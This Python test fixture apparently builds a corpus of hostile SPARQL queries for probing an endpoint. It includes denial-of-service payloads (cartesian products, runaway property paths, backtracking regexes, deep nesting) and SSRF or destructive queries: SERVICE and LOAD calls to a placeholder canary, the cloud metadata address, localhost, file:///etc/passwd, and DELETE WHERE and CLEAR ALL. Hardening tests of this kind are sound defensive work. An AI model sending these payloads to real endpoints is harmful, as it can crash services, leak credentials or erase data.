"""Queries meant to starve, crash or misuse an endpoint: name → text. `{canary}` stands for an address that nobody may call."""

_PATTERNS = [f"?a{n} ?b{n} ?c{n}" for n in range(300)]
_ALL = "?s ?p ?o"


def product(size):
    """That many triple patterns that share nothing."""
    return " . ".join(_PATTERNS[:size])


def nested(opening, inside, closing, depth):
    """`inside` in that many layers."""
    return opening * depth + inside + closing * depth


def _growing(function, rounds):
    """A text that doubles with every BIND."""
    binds = "".join(f"BIND({function}(?x{n}, ?x{n}) AS ?x{n + 1}) " for n in range(rounds))
    return f'SELECT (STRLEN(?x{rounds}) AS ?n) {{ BIND("abcdefgh" AS ?x0) {binds} }}'


PRODUCTS = {
    **{f"count-of-product-{n}": f"SELECT (COUNT(*) AS ?n) {{ {product(n)} }}" for n in (2, 3, 5, 9, 20)},
    **{f"rows-of-product-{n}": f"SELECT * {{ {product(n)} }}" for n in (2, 3, 6)},
    "distinct-product": f"SELECT DISTINCT * {{ {product(3)} }}",
    "ordered-product": f"SELECT * {{ {product(3)} }} ORDER BY ?c2 ?b1 ?a0",
    "ordered-descending-by-expression": f"SELECT * {{ {product(3)} }} ORDER BY DESC(CONCAT(STR(?a0), STR(?c2))) LIMIT 1",
    "grouped-product": f"SELECT ?a0 ?a1 (COUNT(*) AS ?n) {{ {product(3)} }} GROUP BY ?a0 ?a1 ?a2",
    "offset-product": f"SELECT * {{ {product(3)} }} OFFSET 100000000000 LIMIT 1",
    "ask-false-product": f"ASK {{ {product(4)} FILTER(?a0 = ?c3 && ?a0 != ?c3) }}",
    "constructed-product": f"CONSTRUCT {{ ?a0 ?b1 ?c2 }} WHERE {{ {product(3)} }}",
    "constructed-blank-product": f"CONSTRUCT {{ [] ?b1 [] }} WHERE {{ {product(3)} }}",
    "described-product": f"DESCRIBE * {{ {product(3)} }}",
    "optional-product": "SELECT (COUNT(*) AS ?n) { " + " ".join(f"OPTIONAL {{ {p} }}" for p in _PATTERNS[:4]) + " }",
    "union-product": "SELECT (COUNT(*) AS ?n) { " + " . ".join(f"{{ {p} }} UNION {{ {p} }}" for p in _PATTERNS[:4]) + " }",
    "minus-product": f"SELECT (COUNT(*) AS ?n) {{ {product(2)} MINUS {{ {product(3)} FILTER(?c2 = ?a0) }} }}",
    "not-exists-product": f"SELECT (COUNT(*) AS ?n) {{ {product(2)} FILTER NOT EXISTS {{ ?x ?y ?z FILTER(?z = ?c1 && ?x = ?a0 && ?a1 = ?z) }} }}",
    "graphs-product": "SELECT (COUNT(*) AS ?n) { GRAPH ?g { ?a ?b ?c } GRAPH ?h { ?d ?e ?f } GRAPH ?i { ?j ?k ?l } }",
    "unconnected-250": f"SELECT * {{ {product(250)} }} LIMIT 1",
    "sub-select-product": f"SELECT (COUNT(*) AS ?n) {{ {{ SELECT * {{ {product(2)} }} }} {{ SELECT * {{ ?x ?y ?z . ?u ?v ?w }} }} }}",
}

PATHS = {
    "path-everything-star": "SELECT (COUNT(*) AS ?n) { ?a (!<urn:x>)* ?b }",
    "path-both-ways-star": "SELECT (COUNT(*) AS ?n) { ?a (!<urn:x>|!^<urn:x>)* ?b }",
    "path-plus-plus": "SELECT (COUNT(*) AS ?n) { ?a ((!<urn:x>)+/(!<urn:x>)+)+ ?b }",
    "path-star-star-star": "SELECT (COUNT(*) AS ?n) { ?a ((((!<urn:x>)*)*)*)* ?b . ?b (!<urn:y>)* ?c }",
    "path-long-sequence": "SELECT (COUNT(*) AS ?n) { ?a " + "/".join(["!<urn:x>"] * 60) + " ?b }",
    "path-long-alternative": "SELECT (COUNT(*) AS ?n) { ?a (" + "|".join(f"<urn:{n}>" for n in range(3000)) + ")* ?b }",
    "path-nested": "ASK { ?a " + nested("(", "<urn:x>", ")*", 3000) + " ?b }",
    "path-inverse-nested": "ASK { ?a " + "^(" * 3000 + "<urn:x>" + ")" * 3000 + " ?b }",
    "path-two-ends": "SELECT (COUNT(*) AS ?n) { ?a (!<urn:x>)* ?b . ?b (!^<urn:x>)* ?c . ?c (!<urn:x>)+ ?a }",
}

TEXTS = {
    "regex-quantifiers": f'SELECT * {{ {_ALL} FILTER REGEX(STR(?o), "^((a+)+)+$") }}',
    "regex-alternatives": f'SELECT * {{ {_ALL} FILTER REGEX(STR(?o), "(.*)*(.*)*(.*)*x") }}',
    "regex-huge-repetition": f'SELECT * {{ {_ALL} FILTER REGEX(STR(?o), "(((a{{1000}}){{1000}}){{1000}}){{1000}}") }}',
    "regex-unicode-classes": f'SELECT * {{ {_ALL} FILTER REGEX(STR(?o), "(\\\\p{{L}}{{1,900}}){{1,90}}") }}',
    "regex-long": f'SELECT * {{ {_ALL} FILTER REGEX(STR(?o), "{"(a|b)?" * 5000}") }}',
    "regex-broken": f'SELECT * {{ {_ALL} FILTER REGEX(STR(?o), "(((((") }}',
    "regex-from-data": f"SELECT (COUNT(*) AS ?n) {{ {product(2)} FILTER REGEX(STR(?c0), STR(?c1)) }}",
    "replace-growth": f'SELECT (REPLACE(REPLACE(REPLACE(STR(?o), "", "abcdefghij"), "", "klmnopqrst"), "", "uvwxyz") AS ?x) {{ {_ALL} }}',
    "concat-doubling-30": _growing("CONCAT", 30),
    "concat-doubling-60": _growing("CONCAT", 60),
    "group-concat-everything": f'SELECT (GROUP_CONCAT(CONCAT(STR(?c0), STR(?c1)); SEPARATOR="{"-" * 1000}") AS ?x) {{ {product(2)} }}',
    "encode-growth": 'SELECT (STRLEN(?z) AS ?n) { BIND("%%%%%%%%" AS ?a) '
                     + "".join(f"BIND(ENCODE_FOR_URI({v}) AS {w}) " for v, w in (("?a", "?b"), ("?b", "?c"), ("?c", "?d"), ("?d", "?z"))) + "}",
    "digest-product": f"SELECT (SHA512(CONCAT(STR(?c0), STR(?c1), STR(?c2))) AS ?x) {{ {product(3)} }} ORDER BY ?x LIMIT 1",
    "long-text": f'ASK {{ FILTER(STRLEN("{"a" * 60_000}") = 1) }}',
    "long-name": f"ASK {{ ?{'v' * 60_000} ?p ?o }}",
    "long-iri": f"ASK {{ <urn:{'x' * 60_000}> ?p ?o }}",
}

DEPTHS = {
    **{f"groups-{n}": "SELECT * " + nested("{", _ALL, "}", n) for n in (500, 2000, 9000, 30_000)},
    "parentheses": "ASK { FILTER" + nested("(", "true", ")", 20_000) + " }",
    "negations": "ASK { FILTER(" + "!" * 30_000 + "true) }",
    "minus-signs": "ASK { FILTER(" + "- " * 20_000 + "1 = 1) }",
    "additions": "ASK { FILTER(" + "1+" * 20_000 + "1 = 1) }",
    "disjunctions": "ASK { FILTER(" + "true||" * 10_000 + "true) }",
    "nested-exists": "ASK { " + nested("FILTER EXISTS { ?s ?p ?o ", "", "}", 1500) + " }",
    "nested-sub-selects": nested("SELECT * { ", _ALL, " }", 3000),
    "nested-optional": "SELECT * { " + nested("OPTIONAL { ?s ?p ?o ", "", "}", 2500) + " }",
    "nested-union": "SELECT * " + nested("{ { ?s ?p ?o } UNION ", "{ ?s ?p ?o }", "}", 2500),
    "nested-functions": "ASK { FILTER(" + nested("STR(", "1", ")", 5000) + " = 1) }",
    "nested-if": "ASK { FILTER(" + nested("IF(true,", "true", ",false)", 3000) + ") }",
    "nested-lists": "ASK { " + "(" * 10_000 + ")" * 10_000 + " ?p ?o }",
    "nested-blank-nodes": "ASK { " + "[ <urn:p> " * 5000 + "1" + " ]" * 5000 + " }",
    "nested-triple-terms": "ASK { ?s ?p " + nested("<<( <urn:a> <urn:b> ", "1", " )>>", 2500) + " }",
    "list-of-300": "ASK { (" + " ".join(f"?v{n}" for n in range(300)) + ") ?p ?o }",
}

SIZES = {
    "values-10000": "SELECT * { VALUES ?x { " + " ".join(map(str, range(10_000))) + " } VALUES ?y { 1 2 3 } ?s ?p ?o }",
    "values-products": "SELECT (COUNT(*) AS ?n) { " + " ".join(
        f"VALUES ?x{n} {{ {' '.join(map(str, range(100)))} }}" for n in range(8)) + " }",
    "values-wide": "SELECT * { VALUES (" + " ".join(f"?v{n}" for n in range(2000)) + ") { (" + "1 " * 2000 + ") } }",
    "select-2000-expressions": "SELECT " + " ".join(f"(?o + {n} AS ?e{n})" for n in range(2000)) + f" {{ {_ALL} }}",
    "in-10000": f"SELECT * {{ {_ALL} FILTER(?o IN ({', '.join(map(str, range(10_000)))})) }}",
    "prefixes-1500": "".join(f"PREFIX p{n}: <urn:{n}> " for n in range(1500)) + "ASK {}",
    "union-1500": "SELECT (COUNT(*) AS ?n) { " + " UNION ".join(["{ ?s ?p ?o }"] * 1500) + " }",
    "random-forever": f"SELECT * {{ {product(3)} FILTER(RAND() < 0) }}",
    "uuid-rows": f"SELECT (UUID() AS ?u) (STRUUID() AS ?v) {{ {product(2)} }}",
}

OUTWARD = {
    "service": "SELECT * {{ SERVICE <{canary}> {{ ?s ?p ?o }} }}",
    "service-silent": "SELECT * {{ SERVICE SILENT <{canary}> {{ ?s ?p ?o }} }}",
    "service-variable": "SELECT * {{ BIND(<{canary}> AS ?e) SERVICE ?e {{ ?s ?p ?o }} }}",
    "service-many": "SELECT * {{ VALUES ?e {{ <{canary}a> <{canary}b> <{canary}c> }} SERVICE SILENT ?e {{ ?s ?p ?o }} }}",
    "service-mixed-case": "SELECT * {{ sErViCe#x\n<{canary}> {{ ?s ?p ?o }} }}",
    "service-link-local": "SELECT * {{ SERVICE <http://169.254.169.254/latest/meta-data/> {{ ?s ?p ?o }} }}",
    "service-by-name": "SELECT * {{ SERVICE <http://localhost/> {{ ?s ?p ?o }} }}",
    "service-in-exists": "ASK {{ ?s ?p ?o FILTER EXISTS {{ SERVICE <{canary}> {{ ?s ?p ?o }} }} }}",
    "from": "SELECT * FROM <{canary}> {{ ?s ?p ?o }} LIMIT 5",
    "from-named": "SELECT * FROM NAMED <{canary}> {{ GRAPH ?g {{ ?s ?p ?o }} }} LIMIT 5",
    "from-file": "SELECT * FROM <file:///etc/passwd> {{ ?s ?p ?o }} LIMIT 5",
    "load": "LOAD <{canary}>",
    "load-into": "LOAD SILENT <{canary}> INTO GRAPH <urn:g>",
    "insert": "INSERT DATA {{ <urn:s> <urn:p> 1 }}",
    "delete-where": "DELETE WHERE {{ ?s ?p ?o }}",
    "clear": "CLEAR ALL",
    "describe-canary": "DESCRIBE <{canary}>",
}


def corpus(canary):
    """All queries, with the address of a canary filled in."""
    closed = PRODUCTS | PATHS | TEXTS | DEPTHS | SIZES
    return closed | {name: text.format(canary=canary) for name, text in OUTWARD.items()}
